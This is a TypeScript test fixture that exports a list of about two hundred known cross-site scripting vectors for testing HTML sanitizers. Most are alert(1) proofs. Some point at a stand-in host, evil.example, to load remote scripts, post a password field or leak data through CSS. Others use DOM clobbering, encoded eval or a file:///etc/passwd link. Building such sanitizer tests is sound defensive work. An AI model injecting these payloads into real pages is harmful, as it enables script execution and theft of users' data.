/** Well-known attacks on sanitizers, one per line. Any of them that runs calls `alert`. For tests only. */
export const XSS_VECTORS: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=data:text/javascript,alert(1)></script>
<script src="https://evil.example/x.js"></script>
<script type=module>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script>alert(1)//
<<script>alert(1);//<</script>
<script x>alert(1)</script 1=2
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><script>alert&#40;1&#41;</script>
<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg	onload=alert(1)><svg>
<svg onload="alert(1)"//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x dur=1s>
<svg><animatetransform onbegin=alert(1)>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns='http://www.w3.org/2000/svg' onload=alert(1)&gt;#x"/></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style>{font-family:'<iframe/onload=alert(1)>'</style>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<IMG SRC=x ONERROR=alert(1)>
<img src=x onerror=alert&lpar;1&rpar;>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>
<img src=x oneonerrorrror=alert(1)>
<img/src=x/onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src="x" ${'`'}<script>alert(1)</script>"${'`'} />
<img src=1 href=1 onerror="alert(1)"></img>
<img src="javascript:alert(1)">
<img src=JaVaScRiPt:alert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img srcset="x" onerror=alert(1)>
<img srcset="https://evil.example/a.png 1x" src=x>
<img src=x:x onerror=alert(1) onload=alert(1)>
<img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'>
<img src=x name=getElementById><img src=x id=cookie>
<image src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<picture><source srcset="x"><img onerror=alert(1)></picture>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<video autoplay onloadstart=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay onplay=alert(1)><source src="data:audio/wav;base64,UklGRg==" /></audio>
<track default src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background="javascript:alert(1)">
<body onscroll=alert(1)><br><br><input autofocus>
<frameset onload=alert(1)>
<frameset><frame src=javascript:alert(1)></frameset>
<html onmousemove=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe/src=j&Tab;a&Tab;v&Tab;a&Tab;script:alert(1)>
<iframe src="https://evil.example/"></iframe>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<div><template shadowrootmode="open"><script>alert(1)</script></template></div>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object onerror=alert(1) data=x></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>">
<embed onload=alert(1) src=x>
<applet code=x></applet>
<param name=src value=javascript:alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<isindex action=javascript:alert(1) type=image>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select onfocus=alert(1) autofocus></select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<button onclick=alert(1) autofocus onfocus=alert(1)>x</button>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<form action="https://evil.example/"><input name=password></form>
<form><input type=hidden name=attributes><input name=parentNode></form>
<form id=x tabindex=0 onfocus=alert(1)><input id=attributes></form>
<div id=x tabindex=1 onfocus=alert(1)></div>
<div onfocusin=alert(1) tabindex=1 autofocus>x</div>
<p contenteditable autofocus onfocus=alert(1)>x</p>
<details open ontoggle=alert(1)><summary>x</summary></details>
<details/open/ontoggle="alert(1)">
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<marquee><img src=x onerror=alert(1)></marquee>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x.js"></layer>
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=preload href=x as=script onload=alert(1)>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url(https://evil.example/?leak)}</style>
<style onload=alert(1)>@import 'x';</style>
<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<p style="animation:x" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>
<a style="transition:1s" ontransitionend=alert(1) tabindex=1>x</a>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#14;javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="JAVASCRIPT:alert(1)">x</a>
<a href="javascript://https://good.example/%0Aalert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://good.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="http://good.example/">x</a>
<a href="https://user:secret@good.example/">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="x-javascript:alert(1)" xlink:href="javascript:alert(1)">x</a>
<a href="https://good.example/" ping="https://evil.example/">x</a>
<a href="https://good.example/" onclick=alert(1)>x</a>
<a href="https://good.example/" target=_top>x</a>
<a href="https://good.example/" download=x.exe>x</a>
<a href="mailto:x@y.example?subject=<script>alert(1)</script>">x</a>
<a href=x><b onmouseover=alert(1)>x</a>
<area shape=default href=javascript:alert(1)>
<map name=x><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map><img usemap=#x src=x>
<base href="javascript:alert(1)//"><a href="/x">x</a>
<base href="https://evil.example/"><a href="x">x</a>
<base target=x>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
<table><tr><td><svg><style><td><img src=x onerror=alert(1)></style></svg></td></tr></table>
<b><p><table><b onclick=alert(1)><img src=x onerror=alert(1)>
<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>
<!DOCTYPE html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;
<%<!--'%><script>alert(1)</script -->
<a title="<!--" href="javascript:alert(1)">--></a>
<x onclick=alert(1) tabindex=1>x</x>
<x-custom onfocus=alert(1) tabindex=1 autofocus>x</x-custom>
<p is="x-custom" onclick=alert(1)>x</p>
<div data-action="close" class="overlay">x</div>
<div role=alert aria-live=assertive>x</div>
<img src=x id=location><a id=document href=x>x</a>
<form name=body><img name=querySelector></form>
<input name=nodeName><input name=innerHTML>
<slot onslotchange=alert(1)>x</slot>
<portal src="javascript:alert(1)">
<fencedframe src="https://evil.example/"></fencedframe>
<selectedcontent><img src=x onerror=alert(1)></selectedcontent>
'"><img src=x onerror=alert(1)>
</textarea></title></style><img src=x onerror=alert(1)>
<p title='"><img src=x onerror=alert(1)>'>x</p>
{{constructor.constructor('alert(1)')()}}<img src=x onerror=alert(1)>
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onerror=top[/al/.source+/ert/.source](1)>
<img src=x onerror=import('data:text/javascript,alert(1)')>
`
  .split('\n')
  .filter(Boolean);
